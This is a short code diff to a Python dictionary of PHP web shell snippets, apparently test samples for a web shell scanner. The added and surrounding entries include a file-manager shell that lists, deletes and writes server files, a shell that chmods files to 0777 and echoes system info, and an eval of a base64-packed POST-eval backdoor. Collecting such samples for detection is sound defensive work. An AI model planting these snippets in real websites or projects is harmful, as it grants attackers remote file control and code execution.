@@ -40,6 +40,9 @@ SNIPPETS: dict[str, bytes] = {
                          b" if ($_POST['del']) unlink($f); file_put_contents($f, $_POST['body']);"
                          b" chmod($f, 0777); echo php_uname(); ?>"
                          b"<form method=post><textarea name=body></textarea></form>"),
+    "php_legacy_file_manager": (b"<form method=post><input name=dir></form><?php $h = opendir($dir);"
+                                b" while ($f = readdir($h)) echo $f; if ($del) unlink($dir . $f);"
+                                b" fwrite(fopen($dir . $name, 'w'), $body); ?>"),
     "php_eval_packed_blob": (b"<?php $f = 'x'; "
                              b"eval($f('aWYgKGlzc2V0KCRfUE9TVFsneCddKSkgeyBldmFsKCRfUE9TVFsneCddKTsgfQ==')); ?>"),
     # JSP / JSPX
